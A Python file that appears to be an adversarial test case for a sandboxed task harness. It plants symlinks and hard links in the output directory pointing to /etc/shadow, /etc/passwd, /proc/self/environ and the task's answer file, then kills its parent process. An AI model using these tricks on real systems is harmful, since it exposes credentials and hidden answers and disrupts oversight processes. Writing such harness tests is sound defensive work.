"""F18  Leaves links to files of the machine among the results, under the names that are read, and hard links.
EXPECT wrong crashed bad-output
WAY metric
ALL
"""
import os

import armed


def attack():
    armed.ran("F18")
    for name, target in (("results.json", "/etc/passwd"), ("results.safetensors", "/proc/self/environ"), ("figure-001-1.png", "/task/in/request.json"), ("page-01.png", "/etc/shadow"),
                         ("folder", "/"), ("up", "../../.."), ("self", "/proc/self/fd/0"), ("loop", "loop")):
        path = "/task/out/" + name
        try:
            os.unlink(path)
        except OSError:
            pass
        try:
            os.symlink(target, path)
        except OSError:
            pass
    for number, source in enumerate(("/etc/passwd", "/task/in/request.json", "/task/sub/answer.py")):
        armed.probe("hard link to " + source, lambda: os.link(source, f"/task/out/hard-{number}") is None)
    os.kill(os.getppid(), 9) if os.getppid() > 1 else None
    os._exit(0)
